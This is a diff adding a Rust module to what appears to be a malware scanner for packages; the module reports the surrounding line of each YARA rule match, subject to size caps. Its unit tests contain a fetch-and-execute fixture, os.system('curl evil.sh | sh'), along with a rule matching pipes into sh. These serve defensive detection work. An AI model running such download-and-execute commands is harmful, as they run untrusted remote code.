@@ -0,0 +1,218 @@
+//! The context of the strings matched by rules, so a match can be triaged without opening the
+//! package.
+//!
+//! Each snippet is the matched bytes along with up to `match_context` bytes on either side, cut at
+//! line breaks so it's the line the match is on. The ends are moved inwards to UTF-8 character
+//! boundaries, and anything that still isn't UTF-8 is replaced.
+//!
+//! A rule can match megabytes of data, so what's reported is capped: at most `max_match_snippets`
+//! per file, matches are cut after `max_match_data` bytes, and once the snippets of a distribution
+//! add up to `match_data_budget` bytes, the next ones only have their offset and length. Snippets
+//! that were cut or left without context are marked as `truncated`. With `redact_match_data`, no
+//! snippet has any context.
+
+use memchr::{memchr, memchr_iter, memrchr};
+use serde::Serialize;
+use yara::Rule;
+
+use crate::{exts::RuleExt, APP_CONFIG};
+
+/// How much of the matched data is reported
+#[derive(Debug, Clone, Copy)]
+pub struct Limits {
+    /// How many bytes are kept on either side of a match
+    pub context: usize,
+
+    /// How many snippets are kept per file
+    pub max_snippets: usize,
+
+    /// How many bytes of a single match are kept
+    pub max_match_data: usize,
+
+    /// Whether to only report where the matches are, without any of the data
+    pub redact: bool,
+}
+
+impl Limits {
+    pub fn from_config() -> Self {
+        Self {
+            context: APP_CONFIG.load().match_context,
+            max_snippets: APP_CONFIG.load().max_match_snippets,
+            max_match_data: APP_CONFIG.load().max_match_data,
+            redact: APP_CONFIG.load().redact_match_data,
+        }
+    }
+}
+
+/// A string matched by a rule, with the context around it
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Snippet {
+    /// The rule that matched
+    pub rule: String,
+
+    /// The identifier of the string that matched, such as `$payload`
+    pub string: String,
+
+    /// The offset of the match in the file, in bytes
+    pub offset: usize,
+
+    /// The length of the whole match, in bytes
+    pub length: usize,
+
+    /// The 1-based line of the file the match starts on
+    pub line: usize,
+
+    /// The match along with its surrounding context, unless it's redacted or over the budget
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub context: Option<String>,
+
+    /// Whether the match was cut, or left without context, because of the size caps
+    #[serde(skip_serializing_if = "std::ops::Not::not")]
+    pub truncated: bool,
+}
+
+fn is_continuation_byte(byte: u8) -> bool {
+    byte & 0xC0 == 0x80
+}
+
+/// The line around `contents[offset..offset + length]`, with at most `context` bytes on each side
+fn surrounding(contents: &[u8], offset: usize, length: usize, context: usize) -> String {
+    let offset = offset.min(contents.len());
+    let match_end = offset.saturating_add(length).min(contents.len());
+
+    let line_start = memrchr(b'\n', &contents[..offset]).map_or(0, |newline| newline + 1);
+    let line_end =
+        memchr(b'\n', &contents[match_end..]).map_or(contents.len(), |newline| match_end + newline);
+    let mut start = offset.saturating_sub(context).max(line_start);
+    let mut end = match_end.saturating_add(context).min(line_end);
+
+    while start < offset && is_continuation_byte(contents[start]) {
+        start += 1;
+    }
+    while end > match_end && end < contents.len() && is_continuation_byte(contents[end]) {
+        end -= 1;
+    }
+
+    String::from_utf8_lossy(&contents[start..end])
+        .trim_end_matches('\r')
+        .to_owned()
+}
+
+/// Capture the context of the strings `matches` matched in `contents` within `limits`, taking the
+/// size of the contexts out of `budget`
+pub fn capture(
+    matches: &[Rule],
+    contents: &[u8],
+    limits: Limits,
+    budget: &mut usize,
+) -> Vec<Snippet> {
+    matches
+        .iter()
+        .flat_map(|rule| {
+            rule.strings.iter().flat_map(move |string| {
+                string
+                    .matches
+                    .iter()
+                    .map(move |found| (rule, string.identifier, found))
+            })
+        })
+        .take(limits.max_snippets)
+        .map(|(rule, string, found)| {
+            let mut truncated = found.length > limits.max_match_data;
+            let context = (!limits.redact)
+                .then(|| {
+                    surrounding(
+                        contents,
+                        found.offset,
+                        found.length.min(limits.max_match_data),
+                        limits.context,
+                    )
+                })
+                .filter(|context| {
+                    let fits = context.len() <= *budget;
+                    if fits {
+                        *budget -= context.len();
+                    } else {
+                        truncated = true;
+                    }
+                    fits
+                });
+
+            Snippet {
+                rule: rule.full_name(),
+                string: string.to_owned(),
+                offset: found.offset,
+                length: found.length,
+                line: memchr_iter(b'\n', &contents[..found.offset.min(contents.len())]).count() + 1,
+                context,
+                truncated,
+            }
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{capture, surrounding, Limits};
+    use yara::Compiler;
+
+    #[test]
+    fn keeps_the_line_around_matches() {
+        let contents = "import os\nx = 1; os.system('curl evil.sh | sh'); y = 2\nprint(x)\n";
+        let offset = contents.find("os.system").unwrap();
+
+        assert_eq!(
+            surrounding(contents.as_bytes(), offset, 9, 7),
+            "x = 1; os.system('curl "
+        );
+        assert_eq!(
+            surrounding(contents.as_bytes(), offset, 9, 100),
+            "x = 1; os.system('curl evil.sh | sh'); y = 2"
+        );
+
+        // the context doesn't start or end in the middle of a character
+        let contents = "é=1;exec;é=2".as_bytes();
+        assert_eq!(surrounding(contents, 5, 4, 4), "=1;exec;é=");
+        assert_eq!(surrounding(contents, 5, 4, 2), "1;exec;");
+    }
+
+    #[test]
+    fn caps_the_reported_match_data() {
+        let rules = Compiler::new()
+            .unwrap()
+            .add_rules_str("rule shell { strings: $sh = \"| sh\" condition: $sh }")
+            .unwrap()
+            .compile_rules()
+            .unwrap();
+        let contents = "a\nb\ncurl evil.sh | sh\ncurl evil.sh | sh\n";
+        let matches = rules.scan_mem(contents.as_bytes(), 10).unwrap();
+        let limits = Limits {
+            context: 8,
+            max_snippets: 5,
+            max_match_data: 2,
+            redact: false,
+        };
+
+        let mut budget = 16;
+        let snippets = capture(&matches, contents.as_bytes(), limits, &mut budget);
+        assert_eq!(snippets.len(), 2);
+        assert_eq!(snippets[0].rule, "shell");
+        assert_eq!(snippets[0].string, "$sh");
+        assert_eq!(snippets[0].line, 3);
+        assert_eq!(snippets[0].length, 4);
+        assert_eq!(snippets[0].context.as_deref(), Some("evil.sh | sh"));
+        assert!(snippets[0].truncated);
+        // the second one is over the budget
+        assert_eq!(snippets[1].line, 4);
+        assert_eq!(snippets[1].context, None);
+        assert_eq!(budget, 4);
+
+        let limits = Limits {
+            redact: true,
+            ..limits
+        };
+        let mut unlimited = usize::MAX;
+        let snippets = capture(&matches, contents.as_bytes(), limits, &mut unlimited);
+        assert!(snippets.iter().all(|snippet| snippet.context.is_none()));
+    }
+}